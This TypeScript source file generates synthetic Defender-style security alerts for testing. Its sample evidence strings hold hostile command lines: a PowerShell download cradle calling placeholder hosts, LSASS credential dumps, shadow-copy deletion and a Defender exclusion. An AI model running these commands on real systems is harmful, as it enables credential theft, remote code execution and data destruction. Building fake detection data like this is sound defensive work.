import { DETECTION_FIELDS, type Detection, type DetectionField } from '../defender/services/detection';
import { SeededRandom } from './random';
import { DOTNET_EPOCH_OFFSET_TICKS, TICKS_PER_MS, formatMs, instantToMs } from './timestamps';

/**
 * Realistic detections in the shape of the seed's sample response: all 50 fields in the documented order,
 * "" for empty values, null for the unknown booleans, 7-digit timestamps. Everything is drawn from a
 * seeded generator so a seed always produces the same devices and the same detections.
 */

export const MACHINE_GROUPS = ['UKMachines', 'FranceMachines', 'Servers', ''] as const;
export const DEVICE_TAGS = ['VIP', 'Finance', 'Kiosk', 'Test', 'PCI'] as const;
export const CLOUD_TAGS = ['Critical', 'Engineering', 'HR', 'Laptop', 'Pilot'] as const;
export const SEVERITIES = ['Informational', 'Low', 'Medium', 'High'] as const;
export type Severity = (typeof SEVERITIES)[number];

interface Machine {
  name: string;
  domain: string;
  group: string;
  deviceTags: string;
  cloudTags: string;
  deviceId: string;
  ipv4: string;
  ipv6: string;
  users: string[];
}

interface ProcessEvidence {
  fileName: string;
  /** Folder; {user} is replaced by a logged-on user's name. */
  filePath: string;
  commandLine: string;
}

/** One kind of detection: what a sensor saw and how the portal titles it. */
interface Scenario {
  source: string;
  category: string;
  title: string;
  description: string;
  severities: readonly Severity[];
  evidence?: readonly ProcessEvidence[];
  network?: 'ip' | 'url';
  ioc?: 'IpAddress' | 'Url' | 'FileSha1';
  actor?: boolean;
  /** EDR behavioural detections carry the id of the rule (IoA definition) that fired. */
  ioa?: boolean;
}

interface Threat {
  category: string;
  family: string;
  name: string;
  alertCategory: string;
  noun: string;
  severity: Severity;
  fileName: string;
  filePath: string;
}

const SITES: ReadonlyArray<{ group: string; prefixes: readonly string[]; domain: string }> = [
  { group: 'UKMachines', prefixes: ['lon-ws', 'man-lt', 'edi-ws'], domain: 'uk.contoso.com' },
  { group: 'FranceMachines', prefixes: ['par-ws', 'lyo-lt', 'nte-ws'], domain: 'fr.contoso.com' },
  { group: 'Servers', prefixes: ['srv-sql', 'srv-dc', 'srv-web', 'srv-file'], domain: 'corp.contoso.com' },
  { group: '', prefixes: ['mymachine', 'desktop', 'lab-vm'], domain: 'domain.com' },
];

const USERS = ['alice', 'bob', 'chen.li', 'd.martin', 'emma', 'f.dubois', 'svc_backup', 'administrator'];

const EDR_EVIDENCE: Record<string, readonly ProcessEvidence[]> = {
  powershell: [
    {
      fileName: 'powershell.exe',
      filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
      commandLine: 'powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand {b64}',
    },
    {
      fileName: 'powershell.exe',
      filePath: 'C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0',
      commandLine: 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://{host}/a.ps1\')"',
    },
  ],
  lsass: [
    {
      fileName: 'rundll32.exe',
      filePath: 'C:\\Windows\\System32',
      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} C:\\Windows\\Temp\\dbg.dmp full',
    },
    {
      fileName: 'procdump64.exe',
      filePath: 'C:\\Users\\{user}\\Downloads',
      commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\ls.dmp',
    },
  ],
  task: [
    {
      fileName: 'schtasks.exe',
      filePath: 'C:\\Windows\\System32',
      commandLine: 'schtasks.exe /create /tn "OneDrive Sync Check" /tr "C:\\ProgramData\\sync\\odsync.exe" /sc onlogon /rl highest',
    },
  ],
  discovery: [
    { fileName: 'net.exe', filePath: 'C:\\Windows\\System32', commandLine: 'net.exe group "Domain Admins" /domain' },
    { fileName: 'nltest.exe', filePath: 'C:\\Windows\\System32', commandLine: 'nltest.exe /domain_trusts /all_trusts' },
  ],
  service: [
    {
      fileName: 'PSEXESVC.exe',
      filePath: 'C:\\Windows',
      commandLine: 'C:\\Windows\\PSEXESVC.exe',
    },
    {
      fileName: 'sc.exe',
      filePath: 'C:\\Windows\\System32',
      commandLine: 'sc.exe \\\\{peer} create updsvc binPath= "C:\\Windows\\Temp\\updsvc.exe" start= auto',
    },
  ],
  file: [
    { fileName: 'cmdParent.exe', filePath: 'C:\\WINDOWS\\SysWOW64\\boo3\\qwerty', commandLine: '' },
    { fileName: 'invoice_0923.docm', filePath: 'C:\\Users\\{user}\\Downloads', commandLine: '' },
  ],
  ransomware: [
    {
      fileName: 'vssadmin.exe',
      filePath: 'C:\\Windows\\System32',
      commandLine: 'vssadmin.exe delete shadows /all /quiet',
    },
    {
      fileName: 'svchost32.exe',
      filePath: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft',
      commandLine: 'svchost32.exe --encrypt C:\\Shares --note README_RESTORE.txt',
    },
  ],
  exclusion: [
    {
      fileName: 'powershell.exe',
      filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
      commandLine: 'powershell.exe Add-MpPreference -ExclusionPath C:\\ProgramData\\sync',
    },
  ],
  browser: [
    { fileName: 'msedge.exe', filePath: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', commandLine: '' },
    { fileName: 'chrome.exe', filePath: 'C:\\Program Files\\Google\\Chrome\\Application', commandLine: '' },
  ],
};

const SCENARIOS: readonly Scenario[] = [
  {
    source: 'EDR', category: 'Execution', title: 'Suspicious PowerShell command line', ioa: true,
    description: 'A hidden PowerShell process ran encoded or downloaded content.',
    severities: ['Medium', 'High'], evidence: EDR_EVIDENCE.powershell,
  },
  {
    source: 'EDR', category: 'CredentialAccess', title: 'Possible credential dumping from LSASS memory', ioa: true,
    description: 'A process read the memory of lsass.exe, as credential theft tools do.',
    severities: ['High'], evidence: EDR_EVIDENCE.lsass,
  },
  {
    source: 'EDR', category: 'Persistence', title: 'Suspicious scheduled task created', ioa: true,
    description: 'A task that runs a binary from a user-writable folder at logon was created.',
    severities: ['Low', 'Medium'], evidence: EDR_EVIDENCE.task,
  },
  {
    source: 'EDR', category: 'Discovery', title: 'Suspicious account and domain discovery', ioa: true,
    description: 'Privileged groups and domain trusts were enumerated in quick succession.',
    severities: ['Informational', 'Low'], evidence: EDR_EVIDENCE.discovery,
  },
  {
    source: 'EDR', category: 'LateralMovement', title: 'Suspicious remote service installation', ioa: true,
    description: 'A service was created remotely and started a binary copied over the network.',
    severities: ['Medium', 'High'], evidence: EDR_EVIDENCE.service,
  },
  {
    source: 'EDR', category: 'CommandAndControl', title: 'Connection to a known command and control server', ioa: true,
    description: 'A process connected to a known command and control address.',
    severities: ['Medium', 'High'], evidence: EDR_EVIDENCE.powershell, network: 'ip',
  },
  {
    source: 'EDR', category: 'Malware', title: 'Suspicious File Activity', ioa: true,
    description: 'A file with malware traits was written and opened.',
    severities: ['Medium', 'High'], evidence: EDR_EVIDENCE.file,
  },
  {
    source: 'EDR', category: 'Ransomware', title: 'Ransomware behavior detected in the file system', ioa: true,
    description: 'Many files were rewritten and shadow copies were deleted.',
    severities: ['High'], evidence: EDR_EVIDENCE.ransomware,
  },
  {
    source: 'EDR', category: 'DefenseEvasion', title: 'Suspicious Microsoft Defender Antivirus exclusion', ioa: true,
    description: 'An exclusion was added for a folder holding new executables.',
    severities: ['Medium'], evidence: EDR_EVIDENCE.exclusion,
  },
  {
    source: 'EDR', category: 'SuspiciousActivity', title: '[Test Alert] Suspicious Powershell commandline', ioa: true,
    description: 'Test alert raised by the onboarding detection test.',
    severities: ['Informational'], evidence: EDR_EVIDENCE.powershell,
  },
  {
    source: 'AutomatedInvestigation', category: 'SuspiciousActivity', title: 'Malicious file remediated by automated investigation',
    description: 'Automated investigation removed a malicious file.',
    severities: ['Informational', 'Low'], evidence: EDR_EVIDENCE.file,
  },
  {
    source: 'CustomTI', category: 'SuspiciousActivity', title: 'Connection to a custom network indicator',
    description: 'A connection matched a custom network indicator.',
    severities: ['Medium', 'High'], evidence: EDR_EVIDENCE.browser, network: 'url', ioc: 'Url',
  },
  {
    source: 'CustomTI', category: 'Malware', title: 'File matching a custom indicator was observed',
    description: 'A file matched a custom file indicator.',
    severities: ['Low', 'Medium', 'High'], evidence: EDR_EVIDENCE.file, ioc: 'FileSha1',
  },
  {
    source: 'SmartScreen', category: 'InitialAccess', title: 'SmartScreen blocked a phishing URL',
    description: 'SmartScreen blocked a site reported for phishing.',
    severities: ['Low', 'Medium'], evidence: EDR_EVIDENCE.browser, network: 'url',
  },
  {
    source: 'CustomDetection', category: 'Execution', title: 'Encoded PowerShell download cradle (custom detection rule)',
    description: 'A custom rule matched an in-memory script download.',
    severities: ['Medium'], evidence: EDR_EVIDENCE.powershell, network: 'url',
  },
  {
    source: 'ThreatExperts', category: 'Ransomware', title: 'Hands-on-keyboard attack activity flagged by threat experts',
    description: 'Threat experts saw human-operated attack activity; isolate the device.',
    severities: ['High'], evidence: EDR_EVIDENCE.ransomware, actor: true,
  },
];

const THREATS: readonly Threat[] = [
  { category: 'HackTool', family: 'Mimikatz', name: 'HackTool:Win32/Mimikatz.D', alertCategory: 'CredentialAccess', noun: 'hacktool', severity: 'High', fileName: 'mimikatz.exe', filePath: 'C:\\Users\\{user}\\Desktop\\tools' },
  { category: 'Trojan', family: 'Emotet', name: 'Trojan:Win32/Emotet.RT!MTB', alertCategory: 'Malware', noun: 'malware', severity: 'High', fileName: 'ms_office_update.exe', filePath: 'C:\\Users\\{user}\\AppData\\Local\\Temp' },
  { category: 'Ransom', family: 'WannaCrypt', name: 'Ransom:Win32/WannaCrypt.H', alertCategory: 'Ransomware', noun: 'ransomware', severity: 'High', fileName: 'tasksche.exe', filePath: 'C:\\ProgramData\\qmkjzbwc' },
  { category: 'Backdoor', family: 'CobaltStrike', name: 'Backdoor:Win64/CobaltStrike.NP!dha', alertCategory: 'CommandAndControl', noun: 'backdoor', severity: 'High', fileName: 'beacon.dll', filePath: 'C:\\Windows\\Temp' },
  { category: 'TrojanDownloader', family: 'Qakbot', name: 'TrojanDownloader:O97M/Qakbot.PDB!MTB', alertCategory: 'Malware', noun: 'malware', severity: 'Medium', fileName: 'invoice_0923.docm', filePath: 'C:\\Users\\{user}\\Downloads' },
  { category: 'Virus', family: 'EICAR_Test_File', name: 'Virus:DOS/EICAR_Test_File', alertCategory: 'Malware', noun: 'malware', severity: 'Informational', fileName: 'eicar.com.txt', filePath: 'C:\\Users\\{user}\\Downloads' },
  { category: 'PUA', family: 'Presenoker', name: 'PUA:Win32/Presenoker', alertCategory: 'UnwantedSoftware', noun: 'unwanted software', severity: 'Low', fileName: 'free_pdf_setup.exe', filePath: 'C:\\Users\\{user}\\Downloads' },
];

const ACTORS = ['CINDER TEMPEST', 'BRASS LANTERN', 'QUIET HERON'];
const REMEDIATION_ACTIONS = ['Quarantine', 'Remove', 'Clean', 'Block'];
const URL_HOSTS = ['login-microsoftonline.com-verify.example', 'cdn.update-check.example', 'invoices.fabrikam-billing.example', 'files.contoso-share.example'];

const ALERT_BASE = 'https://securitycenter.windows.com';
const MTP_BASE = 'https://security.microsoft.com';

/** The fields that are derived from AlertId and IocUniqueId. */
export function identityFields(alertId: string, iocUniqueId: string): Partial<Record<DetectionField, string>> {
  const incidentQuery = `byalert?alertId=${alertId}&source=SIEM`;
  return {
    AlertId: alertId,
    FullId: `${alertId}:${iocUniqueId}`,
    IocUniqueId: iocUniqueId,
    LinkToWDATP: `${ALERT_BASE}/alert/${alertId}`,
    IncidentLinkToWDATP: `${ALERT_BASE}/incidents/${incidentQuery}`,
    LinkToMTP: `${MTP_BASE}/alert/${alertId}`,
    IncidentLinkToMTP: `${MTP_BASE}/incidents/${incidentQuery}`,
  };
}

export class DetectionGenerator {
  private readonly machines: Machine[];

  constructor(private readonly random: SeededRandom) {
    this.machines = this.createMachines(24);
  }

  /** The fixed-width LastProcessedTimeUtc of an epoch-ms instant, with random sub-millisecond digits. */
  lastProcessed(ms: number): string {
    return formatMs(ms, this.random.int(0, 9999));
  }

  /** A new detection last processed at the given fixed-width instant. */
  generate(lastProcessedTimeUtc: string, machineGroup?: string): Detection {
    const r = this.random;
    const candidates = machineGroup === undefined ? this.machines : this.machines.filter((m) => m.group === machineGroup);
    const machine = candidates.length > 0 ? r.pick(candidates) : { ...r.pick(this.machines), group: machineGroup ?? '' };
    const user = r.pick(machine.users);

    // Processing follows the alert by seconds to a few minutes.
    const alertMs = instantToMs(lastProcessedTimeUtc) - r.int(2_000, 300_000);
    const alertSubTicks = r.int(0, 9999);
    const alertTime = formatMs(alertMs, alertSubTicks);
    // AlertId embeds the .NET ticks of the alert's creation, as the real ids do.
    const alertTicks = BigInt(alertMs) * TICKS_PER_MS + BigInt(alertSubTicks) + DOTNET_EPOCH_OFFSET_TICKS;
    const alertId = `da${alertTicks}_${r.int(1_000_000, 2_147_483_647)}`;
    const iocUniqueId = r.bytes(32).toString('base64');
    const identity = identityFields(alertId, iocUniqueId);

    const antivirus = r.chance(0.3);
    const scenario = antivirus ? undefined : r.pick(SCENARIOS);
    const threat = antivirus ? r.pick(THREATS) : undefined;

    let title: string;
    let category: string;
    let severity: Severity;
    let source: string;
    let description: string;
    let fileName: string;
    let filePath: string;
    let commandLine = '';
    let remediation = { action: '', success: null as boolean | null, executing: null as boolean | null };
    if (threat) {
      const executing = r.chance(0.25);
      const verb = r.pick(['detected', 'prevented', 'blocked']);
      title = `${executing ? 'An active ' : ''}'${threat.family}' ${threat.noun} was ${verb}`;
      category = threat.alertCategory;
      severity = executing && threat.severity === 'Medium' ? 'High' : threat.severity;
      source = 'Antivirus';
      fileName = threat.fileName;
      filePath = threat.filePath;
      description = `Defender Antivirus detected '${threat.name}'.`;
      remediation = { action: r.pick(REMEDIATION_ACTIONS), success: r.chance(0.85), executing };
    } else {
      const s = scenario as Scenario;
      const evidence = r.pick(s.evidence ?? EDR_EVIDENCE.file);
      title = s.title;
      category = s.category;
      severity = r.pick(s.severities);
      source = s.source;
      description = s.description;
      fileName = evidence.fileName;
      filePath = evidence.filePath;
      commandLine = evidence.commandLine
        .replace('{b64}', r.bytes(24).toString('base64'))
        .replace('{host}', r.pick(URL_HOSTS))
        .replace('{pid}', String(r.int(400, 9000)))
        .replace('{peer}', r.pick(this.machines).name);
    }
    filePath = filePath.replace('{user}', user);
    commandLine = commandLine.replaceAll('{user}', user);

    const ipAddress = scenario?.network === 'ip' ? `${r.pick(['203.0.113', '198.51.100', '192.0.2'])}.${r.int(1, 254)}` : '';
    const url = scenario?.network === 'url' ? `https://${r.pick(URL_HOSTS)}/${r.hex(8)}` : '';
    const sha1 = r.hex(40);
    const md5 = r.hex(32);
    const sha256 = r.chance(0.4) ? r.hex(64) : '';
    let iocName = '';
    let iocValue = '';
    if (scenario?.ioc) {
      iocName = scenario.ioc;
      iocValue = scenario.ioc === 'Url' ? url : scenario.ioc === 'IpAddress' ? ipAddress : sha1;
    }
    const userVisible = source !== 'Antivirus' && r.chance(0.5);

    const detection: Detection = {
      AlertTime: alertTime,
      ComputerDnsName: `${machine.name}.${machine.domain}`,
      AlertTitle: title,
      Category: category,
      Severity: severity,
      AlertId: identity.AlertId,
      Actor: scenario?.actor ? r.pick(ACTORS) : '',
      LinkToWDATP: identity.LinkToWDATP,
      IocName: iocName,
      IocValue: iocValue,
      CreatorIocName: iocName,
      CreatorIocValue: iocValue,
      Sha1: sha1,
      FileName: fileName,
      FilePath: filePath,
      IpAddress: ipAddress,
      Url: url,
      IoaDefinitionId: scenario?.ioa ? r.guid() : '',
      UserName: userVisible ? user : '',
      AlertPart: 0,
      FullId: identity.FullId,
      LastProcessedTimeUtc: lastProcessedTimeUtc,
      ThreatCategory: threat?.category ?? '',
      ThreatFamily: threat?.family ?? '',
      ThreatName: threat?.name ?? '',
      RemediationAction: remediation.action,
      RemediationIsSuccess: remediation.success,
      Source: source,
      Md5: md5,
      Sha256: sha256,
      WasExecutingWhileDetected: remediation.executing,
      UserDomain: userVisible ? machine.domain.split('.')[0].toUpperCase() : '',
      LogOnUsers: `${machine.domain.split('.')[0].toUpperCase()}\\${user}`,
      MachineDomain: machine.domain,
      MachineName: machine.name,
      InternalIPv4List: machine.ipv4,
      InternalIPv6List: machine.ipv6,
      FileHash: sha1,
      DeviceID: machine.deviceId,
      MachineGroup: machine.group,
      Description: description,
      DeviceCreatedMachineTags: machine.deviceTags,
      CloudCreatedMachineTags: machine.cloudTags,
      CommandLine: commandLine,
      IncidentLinkToWDATP: identity.IncidentLinkToWDATP,
      ReportID: r.int(100_000_000, 2_147_483_647),
      LinkToMTP: identity.LinkToMTP,
      IncidentLinkToMTP: identity.IncidentLinkToMTP,
      ExternalId: r.hex(40).toUpperCase(),
      IocUniqueId: identity.IocUniqueId,
    };
    // Already in documented order: the literal lists the fields as DETECTION_FIELDS does.
    return detection;
  }

  private createMachines(count: number): Machine[] {
    const r = this.random;
    const machines: Machine[] = [];
    const used = new Set<string>();
    while (machines.length < count) {
      const site = r.pick(SITES);
      const prefix = r.pick(site.prefixes);
      const name = prefix.startsWith('srv') || prefix === 'mymachine'
        ? `${prefix}${prefix === 'mymachine' ? '' : '-'}${String(r.int(1, 12)).padStart(prefix === 'mymachine' ? 1 : 2, '0')}`
        : prefix === 'desktop'
          ? `desktop-${r.hex(7)}`
          : `${prefix}-${String(r.int(1, 999)).padStart(4, '0')}`;
      if (used.has(name)) continue;
      used.add(name);
      const octet = r.int(2, 250);
      const subnet = `10.${SITES.indexOf(site) + 1}.${r.int(0, 40)}`;
      machines.push({
        name,
        domain: site.domain,
        group: site.group,
        deviceTags: r.some(DEVICE_TAGS, 0, 2).join(','),
        cloudTags: r.some(CLOUD_TAGS, 0, 2).join(','),
        deviceId: r.hex(40),
        ipv4: r.chance(0.3) ? `${subnet}.${octet};192.168.56.1;127.0.0.1` : `${subnet}.${octet};127.0.0.1`,
        ipv6: `fe80::${r.hex(4)}:${r.hex(4)}:${r.hex(4)}:${r.hex(4)};::1`,
        users: r.some(USERS, 1, 3),
      });
    }
    return machines;
  }
}

/** A copy of the detection with the documented fields first, in the documented order. */
export function orderFields(detection: Detection): Detection {
  const ordered: Detection = {};
  for (const field of DETECTION_FIELDS) ordered[field] = detection[field] === undefined ? '' : detection[field];
  for (const [key, value] of Object.entries(detection)) {
    if (!KNOWN_FIELDS.has(key)) ordered[key] = value;
  }
  return ordered;
}

const KNOWN_FIELDS: ReadonlySet<string> = new Set(DETECTION_FIELDS);
